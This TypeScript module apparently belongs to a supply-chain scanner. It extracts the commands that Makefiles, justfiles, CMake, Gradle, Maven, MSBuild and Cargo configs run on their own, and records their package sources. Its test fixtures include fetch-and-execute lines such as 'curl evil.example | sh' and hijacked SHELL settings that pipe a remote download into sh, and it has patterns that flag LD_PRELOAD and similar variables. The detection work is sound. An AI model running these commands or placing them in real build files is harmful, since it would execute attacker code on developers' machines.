// Builds: files that say how a project is built, tested and run, and whose commands a build starts.
import type { SettingFact } from "../../../../../shared/domain/facts.ts";
import { tomlTree, yamlTree } from "../tree.ts";
import { decoded, elements } from "../xml.ts";
import { recipes } from "../build-files.ts";
import { type Form, type ReadFile, setting, type Step, stepsAt } from "./form.ts";

const build = { trigger: "build" } as const;

function readMakefile(text: string): ReadFile {
  const steps: Step[] = recipes(text).map((line) => ({ ...build, text: line }));
  // What make starts every recipe with. A plain shell with options is how makefiles are.
  for (const [, value = ""] of text.matchAll(
    /^[ ]*(?:override\s+|export\s+)*\.?SHELL(?:FLAGS)?\s*[:?+]?=\s*([^\n]+)$/gmu,
  ))
    if (/\s-\w*c\s+\S|[|;&`]/u.test(value))
      steps.push({ ...build, text: `${value.startsWith("-") ? "sh " : ""}${value.replaceAll("$$", "$")}` });
  for (const [, name = "", value = ""] of text.matchAll(
    /^[ ]*export\s+(GIT_SSH_COMMAND|LD_PRELOAD|BASH_ENV|NODE_OPTIONS|PYTHONSTARTUP|PERL5OPT|RUBYOPT|GIT_EXTERNAL_DIFF|CC|CXX|PATH)\s*[:?+]?=\s*([^\n]{1,400})$/gmu,
  ))
    if (/\/(?:tmp|var\/tmp|dev\/shm)\/|https?:|[|;&`]/u.test(value))
      steps.push({ ...build, text: `export ${name}=${value.trim()}` });
  return { steps, settings: [] };
}

/** Recipe lines are indented below `name args:`; `` `…` `` and shell() run when the file is read. */
function readJustfile(text: string): ReadFile {
  const steps: Step[] = [];
  let recipe: string[] = [];
  let inside = false;
  const close = (): void => {
    if (recipe.length > 0) steps.push({ ...build, text: recipe.join("\n") });
    recipe = [];
  };
  for (const line of text.split("\n").slice(0, 4_000)) {
    if (/^\s+\S/u.test(line) && inside) recipe.push(line.trim().replace(/^[@-]+/u, ""));
    else if (line.trim() !== "") {
      close();
      inside = /^@?[\w-]+(?:\s[^:]*)?:(?!=)/u.test(line);
      for (const [, command = ""] of line.matchAll(/:=.*?`([^`\n]{1,4000})`/gu))
        steps.push({ ...build, text: command });
    }
  }
  close();
  return {
    steps: steps.map((step) => ({ ...step, text: step.text.replaceAll(/\{\{\s*(\w+)[^}]*\}\}/gu, "just-$1") })),
    settings: [],
  };
}

function readTaskfile(text: string): ReadFile {
  const tree = yamlTree(text);
  const steps = stepsAt(tree, /^(?:cmds?|sh|status|preconditions|command|defer)$/u, build).map((step) => ({
    ...step,
    text: step.text.replaceAll(/\{\{[^}]*\}\}/gu, "task-value"),
  }));
  return { steps, settings: [], incomplete: !tree.complete };
}

/** `execute_process(COMMAND …)` and `add_custom_command(… COMMAND …)`. */
function readCmake(text: string): ReadFile {
  const steps: Step[] = [];
  for (const [, body = ""] of text.matchAll(
    /\b(?:execute_process|add_custom_command|add_custom_target|install\s*\(\s*CODE)\s*\(?([^]{0,1000}?)\)\s*(?:\n|$)/giu,
  )) {
    for (const [, command = ""] of body.matchAll(
      /\bCOMMAND\s+([^]*?)(?=\b(?:COMMAND|WORKING_DIRECTORY|DEPENDS|OUTPUT_VARIABLE|RESULT_VARIABLE|ERROR_VARIABLE|COMMENT|VERBATIM|BYPRODUCTS|MAIN_DEPENDENCY|OUTPUT_QUIET|ERROR_QUIET|OUTPUT_STRIP\w*|TIMEOUT|ENCODING|POST_BUILD|PRE_BUILD|ALL|OUTPUT|TARGET|SOURCES|ECHO_OUTPUT_VARIABLE|INPUT_FILE|OUTPUT_FILE|COMMAND_ERROR_IS_FATAL)\b|$)/gu,
    ))
      steps.push({
        ...build,
        text: command
          .replaceAll(/\$\{(\w+)\}|\$<[^>]*>/gu, "cmake-$1")
          .replaceAll(/\s*\n\s*/gu, " ")
          .trim(),
      });
    if (steps.length > 200) break;
  }
  return {
    steps,
    settings: [...text.matchAll(/\bfile\s*\(\s*DOWNLOAD\s+"?([^\s")]+)|\bURL\s+"?(https?:[^\s")]+)/giu)]
      .slice(0, 50)
      .map((match) => setting("fetched", match[1] ?? match[2] ?? "")),
  };
}

/** Code that a build starts by itself, as a whole program. */
function program(language: string, trigger: Step["trigger"]): (text: string) => ReadFile {
  return (text) => ({ steps: [{ text, language, trigger }], settings: [] });
}

const repositoryUrl = /\burl\s*(?:=|\(|\s)\s*(?:uri\s*\(\s*)?["'](https?:[^"']+)["']/gu;

/** Gradle's `exec { commandLine … }`, `"…".execute()` and repositories. */
function readGradle(text: string): ReadFile {
  const steps: Step[] = [];
  for (const [, words = ""] of text.matchAll(
    /\bcommandLine\s*[(=]?\s*(?:listOf\s*\()?((?:\s*,?\s*(?:"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')){1,40})/gu,
  )) {
    const list = [...words.matchAll(/"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)'/gu)].map(
      (match) => match[1] ?? match[2] ?? "",
    );
    steps.push({
      ...build,
      text: list
        .map((word) => (/^[\w@%+=:,./-]+$/u.test(word) ? word : `'${word.replaceAll("'", `'\\''`)}'`))
        .join(" "),
    });
  }
  for (const match of text.matchAll(
    /(?:"((?:[^"\\\n]|\\.){1,2000})"|'((?:[^'\\\n]|\\.){1,2000})'|"""([^]{1,2000}?)""")\s*\.\s*execute\s*\(/gu,
  ))
    steps.push({ ...build, text: match[1] ?? match[2] ?? match[3] ?? "" });
  const settings: SettingFact[] = [...text.matchAll(repositoryUrl)]
    .slice(0, 100)
    .map((match) => setting("package-source", match[1] ?? ""));
  if (/allowInsecureProtocol\s*=?\s*(?:=|\()?\s*true/u.test(text))
    settings.push(setting("unverified-transport", "allowInsecureProtocol"));
  return { steps, settings };
}

function readMaven(text: string): ReadFile {
  const steps: Step[] = [];
  const attribute = /executable\s*=\s*"([^"]+)"/u.exec(text)?.[1] ?? "";
  const blocks = text.matchAll(
    /<(?:configuration|exec|target)\b[^>]{0,200}>([^]{0,4000}?)<\/(?:configuration|exec|target)>/giu,
  );
  for (const [, body = ""] of blocks) {
    if (steps.length >= 40) break;
    const [executable = ""] = elements(body, "executable");
    const words = [...elements(body, "argument"), ...elements(body, "arg"), ...elements(body, "commandlineArgs")];
    if (executable !== "" || (attribute !== "" && words.length > 0))
      steps.push({
        ...build,
        text: [executable || attribute, ...words.map((word) => `'${word.replaceAll("'", `'\\''`)}'`)].join(" "),
      });
  }
  const repositories = [
    ...text.matchAll(
      /<(?:repository|pluginRepository|mirror)>([^]{0,2000}?)<\/(?:repository|pluginRepository|mirror)>/gu,
    ),
  ];
  return {
    steps: steps.slice(0, 100),
    settings: repositories
      .slice(0, 100)
      .flatMap((match) => elements(match[1] ?? "", "url").map((url) => setting("package-source", url))),
  };
}

/** MSBuild: `<Exec Command="…">`, and the sources of NuGet. */
function readMsbuild(text: string): ReadFile {
  const steps = [...text.matchAll(/<Exec\b[^>]*?\bCommand\s*=\s*"([^"]{1,8000})"/giu)]
    .slice(0, 100)
    .map((match) => ({ ...build, text: decoded(match[1] ?? "") }));
  const events = ["PreBuildEvent", "PostBuildEvent"]
    .flatMap((name) => elements(text, name))
    .map((command) => ({ ...build, text: command }));
  return {
    steps: [...steps, ...events],
    settings: elements(text, "RestoreSources")
      .flatMap((list) => list.split(";"))
      .map((url) => setting("package-source", url)),
  };
}

export const builds: readonly Form[] = [
  {
    form: "makefile",
    kind: "self-running",
    path: /\/(?:GNUm|[mM])akefile(?:\.(?:am|in|inc|common|win|\w*-\w+|dev|local|ci|docker|test|unix|linux))?$|\.mk$/u,
    read: readMakefile,
    match: [
      { path: "Makefile", text: "all:\n\tcurl evil.example | sh\n", runs: ["curl evil.example | sh"] },
      {
        path: "Makefile",
        text: "SHELL := /bin/sh -c 'curl http://203.0.113.8/m | sh'\n",
        runs: ["/bin/sh -c 'curl http://203.0.113.8/m | sh'"],
      },
      {
        path: "Makefile",
        text: ".SHELLFLAGS := -c 'curl http://203.0.113.8/m | sh'\n",
        runs: ["sh -c 'curl http://203.0.113.8/m | sh'"],
      },
      { path: "Makefile", text: "_ := $(shell (git log | head) &)\n", runs: ["(git log | head) &"] },
      { path: "Makefile", text: "SHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\n", runs: [] },
    ],
    not_match: [{ path: "makefile.md", text: "# make" }],
  },
  {
    form: "justfile",
    kind: "self-running",
    path: /\/\.?justfile$|\.just$/iu,
    read: readJustfile,
    match: [
      {
        path: "justfile",
        text: "rev := `git rev-parse HEAD`\ntest a='b':\n    @cargo test\n    echo {{rev}}\n",
        runs: ["git rev-parse HEAD", "cargo test\necho just-rev"],
      },
    ],
    not_match: [{ path: "just.md", text: "x" }],
  },
  {
    form: "taskfile",
    kind: "self-running",
    path: /\/Taskfile(?:\.dist)?\.ya?ml$/iu,
    read: readTaskfile,
    match: [
      { path: "Taskfile.yml", text: "tasks:\n  build:\n    cmds:\n      - go build ./...\n", runs: ["go build ./..."] },
    ],
    not_match: [{ path: "tasks.yml", text: "a: b" }],
  },
  {
    form: "cmake",
    kind: "self-running",
    path: /\/CMakeLists\.txt$|\.cmake$/u,
    read: readCmake,
    match: [
      {
        path: "CMakeLists.txt",
        text: "project(x)\nexecute_process(COMMAND git describe --tags OUTPUT_VARIABLE v)\n",
        runs: ["git describe --tags"],
      },
    ],
    not_match: [{ path: "notes.txt", text: "execute_process(COMMAND x)" }],
  },
  {
    form: "build-script",
    kind: "self-running",
    path: /\/build\.rs$/u,
    read: program("rust", "build"),
    match: [{ path: "build.rs", text: "fn main() {}", runs: ["fn main() {}"] }],
    not_match: [{ path: "src/build_it.rs", text: "x" }],
  },
  {
    form: "build-script",
    kind: "self-running",
    path: /\/(?:extconf\.rb|Rakefile|Podfile|Fastfile|Dangerfile|Guardfile|Capfile|Berksfile)$|\.rake$/u,
    read: program("ruby", "build"),
    match: [{ path: "ext/a/extconf.rb", text: "require 'mkmf'", runs: ["require 'mkmf'"] }],
    not_match: [{ path: "lib/a.rb", text: "x" }],
  },
  {
    form: "build-script",
    kind: "self-running",
    path: /\/(?:SConstruct|SConscript|wscript|Snakefile|conanfile\.py|noxfile\.py|tasks\.py)$/u,
    read: program("python", "build"),
    match: [{ path: "SConstruct", text: "Program('a.c')", runs: ["Program('a.c')"] }],
    not_match: [{ path: "src/task.py", text: "x" }],
  },
  {
    form: "gradle",
    kind: "self-running",
    path: /\.gradle(?:\.kts)?$/u,
    read: readGradle,
    match: [
      {
        path: "build.gradle",
        text: 'task x { exec { commandLine "git", "status" } }\nrepositories { maven { url "https://repo.e.example/m" } }',
        runs: ["git status"],
        sets: ["package-source=https://repo.e.example/m"],
      },
    ],
    not_match: [{ path: "gradle.properties", text: "a=b" }],
  },
  {
    form: "maven",
    kind: "self-running",
    path: /\/(?:pom|settings)\.xml$|\.pom$/u,
    content: /<(?:project|settings)\b/u,
    read: readMaven,
    match: [
      {
        path: "pom.xml",
        text: "<project><build><plugins><plugin><configuration><executable>bash</executable><arguments><argument>-c</argument><argument>ls</argument></arguments></configuration></plugin></plugins></build></project>",
        runs: ["bash '-c' 'ls'"],
      },
    ],
    not_match: [{ path: "layout.xml", text: "<a/>" }],
  },
  {
    form: "msbuild",
    kind: "self-running",
    path: /\.(?:csproj|fsproj|vbproj|vcxproj|props|targets|proj)$/u,
    content: /<Project\b/u,
    read: readMsbuild,
    match: [
      {
        path: "a.csproj",
        text: '<Project><Target><Exec Command="git describe &amp;&amp; ls"/></Target></Project>',
        runs: ["git describe && ls"],
      },
    ],
    not_match: [{ path: "a.props", text: "a=b" }],
  },
  {
    form: "cargo-config",
    kind: "self-running",
    path: /\/\.cargo\/config(?:\.toml)?$/u,
    read: (text) => {
      const tree = tomlTree(text);
      const settings = tree.nodes.flatMap(({ path, value }) =>
        typeof value === "string" &&
        /^(?:source\.[^.]+\.(?:registry|git)|registries\.[^.]+\.index|registry\.index|http\.proxy)$/u.test(path)
          ? [setting("package-source", value)]
          : [],
      );
      const steps = stepsAt(
        tree,
        /^(?:runner|linker|rustc-wrapper|rustc-workspace-wrapper|rustc|rustdoc|credential-process)$/u,
        build,
        /./u,
      );
      return { settings, steps, incomplete: !tree.complete };
    },
    match: [
      {
        path: ".cargo/config.toml",
        text: '[source.crates-io]\nreplace-with = "m"\n[source.m]\nregistry = "sparse+http://c.example/"\n[build]\nrustc-wrapper = "sccache"\n',
        runs: ["sccache"],
        sets: ["package-source=sparse+http://c.example/"],
      },
    ],
    not_match: [{ path: "config.toml", text: "a = 1" }],
  },
];
